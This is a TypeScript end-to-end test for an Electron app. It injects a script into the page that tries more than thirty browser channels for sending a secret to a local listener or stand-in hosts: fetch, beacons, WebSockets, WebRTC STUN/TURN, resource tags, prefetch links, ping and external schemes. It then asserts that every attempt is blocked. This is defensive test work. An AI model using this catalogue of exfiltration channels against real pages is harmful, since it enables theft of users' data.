/** A script in the page that knows a secret and wants to be rid of it: every way out of a browser that is known. */
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { expect, test } from '../e2e/fixture';

/** A server that notes whoever comes, by TCP or UDP, on one port. */
async function listener() {
  const visits: string[] = [];
  const tcp = createServer((socket) => {
    visits.push('tcp');
    socket.on('data', (data) => visits.push(data.toString('latin1')));
    socket.on('error', () => undefined);
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => tcp.once('listening', resolve));
  const address = tcp.address();
  if (address === null || typeof address === 'string') throw new Error('There is no port.');
  const udp = createSocket('udp4').on('message', (data) => visits.push(`udp: ${data.toString('latin1')}`));
  udp.bind(address.port, '127.0.0.1');
  return {
    port: address.port,
    visits,
    close() {
      tcp.close();
      udp.close();
    },
  };
}

test('a script in the page reaches nobody', async ({ launch, folder, log }) => {
  log.expect(
    /Content Security Policy|Trusted|net::ERR|Failed to|external protocol|prefetch|WebTransport|uncaught|rel=preload|--trace-warnings/i,
  );
  const outside = await listener();
  const { app, page } = await launch();
  const noted = join(folder, 'network.json');
  await app.evaluate(
    ({ session }, path) => session.defaultSession.netLog.startLogging(path, { captureMode: 'everything' }),
    noted,
  );
  await app.evaluate(({ shell }) => {
    Reflect.set(globalThis, 'opened', []);
    Reflect.set(shell, 'openExternal', async (address: string) => void Reflect.get(globalThis, 'opened').push(address));
  });

  const tried = await page.evaluate(async (to) => {
    const element = (name: string, settings: Record<string, string>) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(settings)) made.setAttribute(key, value);
      document.body.append(made);
      return made;
    };
    const link =
      (rel: string, href = `http://${to}/${rel}`) =>
      () =>
        element('link', { rel, href });
    const rtc = async () => {
      const stun = [`stun:${to}`, 'stun:leak-stun.portal.example'];
      const turn = [`turn:${to}?transport=tcp`, `turn:${to}?transport=udp`];
      const iceServers = [{ urls: stun }, { urls: turn, username: 'leak', credential: 'leak' }];
      const peer = new RTCPeerConnection({ iceServers });
      peer.createDataChannel('leak');
      const offer = await peer.createOffer();
      await peer.setLocalDescription(offer);
      const answer = (offer.sdp ?? '').replace('a=setup:actpass', 'a=setup:active');
      await peer.setRemoteDescription({ type: 'answer', sdp: answer });
      const [host, port] = to.split(':');
      for (const way of [`udp 1 ${host} ${port} typ host`, `tcp 1 ${host} ${port} typ host tcptype passive`])
        await peer.addIceCandidate({ candidate: `candidate:1 1 ${way}`, sdpMid: '0', sdpMLineIndex: 0 });
    };
    const tries: (() => unknown)[] = [
      () => fetch(`http://${to}/fetch`, { method: 'POST', body: 'leak' }),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', `http://${to}/xhr`);
        request.send('leak');
      },
      () => new WebSocket(`ws://${to}/socket`),
      () => new EventSource(`http://${to}/events`),
      () => navigator.sendBeacon(`http://${to}/beacon`, 'leak'),
      () => Reflect.construct(Reflect.get(window, 'WebTransport'), [`https://${to}/transport`]),
      () => new Worker(`http://${to}/worker`),
      () => new SharedWorker(`http://${to}/worker`),
      () => navigator.serviceWorker.register(`http://${to}/worker`),
      () => import(/* @vite-ignore */ `http://${to}/import`),
      () => element('script', { src: `http://${to}/script` }),
      () => element('img', { src: `http://${to}/image`, srcset: `http://${to}/image 2x` }),
      () => element('video', { src: `http://${to}/video`, poster: `http://${to}/poster` }),
      () => element('audio', { src: `http://${to}/audio` }),
      () => element('iframe', { src: `http://${to}/frame` }),
      () => element('object', { data: `http://${to}/object` }),
      () => element('input', { type: 'image', src: `http://${to}/input` }),
      () => new FontFace('leak', `url(http://${to}/font)`).load(),
      () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body { background: url(http://${to}/background) }`);
        document.adoptedStyleSheets = [sheet];
      },
      () => {
        const anchor = element('a', { href: '#leak', ping: `http://${to}/ping` });
        anchor.click();
      },
      ...['stylesheet', 'icon', 'manifest', 'prefetch', 'prerender', 'modulepreload', 'preload'].map((rel) =>
        link(rel),
      ),
      link('preconnect'),
      link('preconnect', 'https://leak-preconnect.portal.example'),
      link('dns-prefetch', '//leak-prefetch.portal.example'),
      rtc,
      () => location.assign('mailto:somebody@portal.example?body=leak'),
      () => location.assign('leak-scheme:leak'),
    ];
    for (const attempt of tries) {
      try {
        const outcome = attempt();
        if (outcome instanceof Promise) await outcome;
      } catch {
        // Refused at once.
      }
    }
    // Time for those that try again.
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    return tries.length;
  }, `127.0.0.1:${outside.port}`);

  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  outside.close();
  expect(tried).toBeGreaterThan(30);
  expect(outside.visits).toEqual([]);
  expect(readFileSync(noted, 'utf8'), 'names that were looked up').not.toMatch(/leak-(stun|prefetch|preconnect)/);
  expect(await app.evaluate(() => Reflect.get(globalThis, 'opened'))).toEqual([]);
});
